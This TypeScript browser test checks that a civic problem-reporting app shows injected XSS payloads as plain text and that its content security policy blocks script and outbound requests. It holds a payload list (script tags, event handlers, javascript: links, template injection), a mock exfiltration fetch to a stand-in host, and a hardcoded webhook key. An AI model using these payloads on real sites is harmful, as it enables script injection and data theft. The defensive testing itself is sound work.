import type { SubmitResponse } from '@shared/schemas/reports';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { launchBrowser } from '../../../scripts/browser/launchBrowser';
import { readAppPages } from '../../../scripts/wechatSimulator/readAppPages';
import { signIn } from '../browser/signIn';
import { Visitor } from '../browser/visitor';
import { ApiClient } from '../world/apiClient';
import { openWorld, type World } from '../world/openWorld';
import { playReport } from '../world/playReport';
import { takeStep } from '../world/playTroubles';
import type { Who } from '../world/staff';

/** Nobody is there; whoever asks for it gave something away. */
const MARKER = 'marker.invalid';
/** Markup that runs `ran=1` or calls the marker where a page takes it for its own; each is found by `data-a`. */
const ATTACKS = [
  '<script data-a>ran=1</script>',
  '<img data-a src=x onerror=ran=1>',
  '"><svg data-a onload=ran=1>',
  "' onmouseover='ran=1' data-a='",
  '<iframe data-a srcdoc="<script>parent.ran=1</script>"></iframe>',
  `<img data-a src=http://${MARKER}/a>`,
  `<link data-a rel=stylesheet href=http://${MARKER}/b>`,
  `<style data-a>@import "http://${MARKER}/c";</style>`,
  '<a data-a href="javascript:ran=1">点我</a>',
  `<form data-a action=http://${MARKER}/d><input name=password></form>`,
  `<meta data-a http-equiv=refresh content="0;url=http://${MARKER}/e">`,
  '<!--><img data-a src=x onerror=ran=1>-->',
  '</textarea></title><script data-a>ran=1</script>',
  '&lt;img data-a src=x onerror=ran=1&gt;',
  '{{constructor.constructor("ran=1")()}}',
  'javascript:ran=1',
];
const LONG = ATTACKS.join('\n').slice(0, 1000);
const WORDS = ATTACKS.join('\n').slice(0, 490);
/** At most 30 characters: a name, a heading. */
const SHORT = '<img data-a src=x onerror=ran=1>'.slice(0, 40);
const NAME = '<b data-a onclick=ran=1>名';

let world: World;
let browser: Browser;
/** A report that was rated; what its page and the talk about it are asked for by. */
let reportId: string;
/** Every page of the client, as its own list has them; the gallery is no part of what is shipped. */
let pages: readonly string[];

beforeAll(async () => {
  world = await openWorld(inject('mongoUri'), {
    names: { resident: SHORT, gridMember: `${NAME}员` },
  });
  browser = await launchBrowser();
  pages = ((await readAppPages()) ?? []).filter((at) => !at.includes('gallery'));
  await plant();
});
afterAll(async () => {
  await browser?.close();
  await world?.close();
});

async function done<Body>(answer: Promise<{ status: number; body: Body }>): Promise<Body> {
  const { status, body } = await answer;
  if (status >= 300) throw new Error(`${status} ${JSON.stringify(body)}`);
  return body;
}

/** Says them wherever people write. */
async function plant(): Promise<void> {
  reportId = await playReport(world, { category: 'road', words: LONG }, 'accepted');
  const [resident, member, admin] = await Promise.all(
    (['resident', 'gridMember', 'admin'] as const).map((who) => ApiClient.signIn(world, who)),
  );
  if (!resident || !member || !admin) throw new Error('somebody could not sign in');
  await takeStep(world, 'handler', reportId, 'progress', { words: WORDS });
  await takeStep(world, 'supervisor', reportId, 'supervision', { words: WORDS });
  await takeStep(world, 'resident', reportId, 'supplement', { words: WORDS });
  await takeStep(world, 'resident', reportId, 'urging', { words: SHORT });
  await takeStep(world, 'gridMember', reportId, 'notes', { words: WORDS });
  const place = { source: 'list', areaCode: world.place.path.at(-1)?.code, address: SHORT };
  const { id } = await done(
    resident.post<SubmitResponse>('/reports', { category: 'noise', words: LONG, place }),
  );
  await takeStep(world, 'gridMember', id, 'rejection', {
    reason: 'notOurs',
    words: WORDS,
    whoCanHelp: SHORT,
  });
  await done(resident.post(`/threads/report-${reportId}/messages`, { kind: 'text', text: WORDS }));
  await done(member.post(`/threads/report-${reportId}/messages`, { kind: 'text', text: WORDS }));
  await done(admin.post('/organisations', { name: NAME, kind: 'department', categories: [] }));
  await done(
    admin.post('/robots', {
      areaCode: world.place.path[0]?.code,
      name: NAME,
      webhook:
        'https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=693a91f6-7abc-4bc4-97a0-0ec251fa5aaa',
      kinds: ['new'],
    }),
  );
  await done(admin.post('/restrictions', { reportId: id, days: 3, reason: SHORT }));
}

/** What must not happen on any page; filled as it happens. */
function watch(page: Page, seen: string[]): void {
  page.on('dialog', (dialog) => {
    seen.push(`a dialog on ${page.url()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().includes(MARKER)) seen.push(`${page.url()} asked for ${request.url()}`);
  });
}

const stateOf = (page: Page) =>
  page.evaluate(() => ({
    ran: Reflect.get(globalThis, 'ran') as unknown,
    elements: document.querySelectorAll('[data-a], iframe, script:not([src])').length,
    shown: document.body.textContent.includes('data-a'),
  }));

async function visitAll(who: Who, name: string, mine: (page: string) => boolean): Promise<number> {
  const seen: string[] = [];
  const visitor = await Visitor.open(browser, { address: world.address });
  watch(visitor.page, seen);
  await signIn(visitor, name);
  let showing = 0;
  for (const at of pages.filter(mine)) {
    const thread = `report-${reportId}`;
    const id = at.includes('talk/index') ? thread : reportId;
    await visitor.go(`/${at}?id=${id}&thread=${thread}&area=${world.place.path.at(-1)?.code}`);
    await visitor.page.locator('main:visible:not([aria-busy="true"])').waitFor();
    await visitor.page.waitForLoadState('networkidle');
    const { ran, elements, shown } = await stateOf(visitor.page);
    if (ran !== undefined) seen.push(`something ran on ${at}`);
    if (elements > 0) seen.push(`${elements} elements came of words on ${at}`);
    if (shown) showing += 1;
  }
  await visitor.close();
  expect(seen, who).toEqual([]);
  return showing;
}

test('what residents see is words, whatever stands in them', async () => {
  const showing = await visitAll('resident', SHORT, (at) => !at.includes('packages/staff'));
  // The report, the lists, the inbox, the talk, oneself: else this would look at nothing.
  expect(showing).toBeGreaterThanOrEqual(5);
});

test('what the staff see is words, whatever stands in them', async () => {
  const showing = await visitAll('admin', '周主任', (at) => at.includes('packages/'));
  expect(showing).toBeGreaterThanOrEqual(4);
  const atWork = await visitAll('gridMember', `${NAME}员`, (at) =>
    /workbench|staff\/pages\/report/.test(at),
  );
  expect(atWork).toBeGreaterThanOrEqual(2);
});

test('and were a page to take them for its own, the browser would run nothing and send nothing away', async () => {
  const visitor = await Visitor.open(browser, { address: world.address });
  await visitor.go('/');
  await visitor.page.locator('main:visible').waitFor();
  const outcome = await visitor.page.evaluate(
    async ({ attacks, marker }) => {
      const blocked: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        blocked.push(event.effectiveDirective),
      );
      const place = document.createElement('div');
      place.innerHTML = attacks.join('');
      document.body.append(place);
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran=1';
      document.body.append(script);
      const stolen = await fetch(`http://${marker}/stolen?${localStorage.length}`).catch(
        () => null,
      );
      await new Promise((resolve) => setTimeout(resolve, 300));
      return {
        elements: document.querySelectorAll('[data-a]').length,
        ran: Reflect.get(globalThis, 'ran') as unknown,
        stolen,
        blocked: [...new Set(blocked)],
      };
    },
    { attacks: ATTACKS.filter((one) => !one.includes('meta')), marker: MARKER },
  );
  await visitor.close();
  // Here they did become elements: what looks for them on the pages sees them.
  expect(outcome.elements).toBeGreaterThan(5);
  expect(outcome.ran).toBeUndefined();
  expect(outcome.stolen).toBeNull();
  expect(outcome.blocked).toEqual(
    expect.arrayContaining(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']),
  );
});
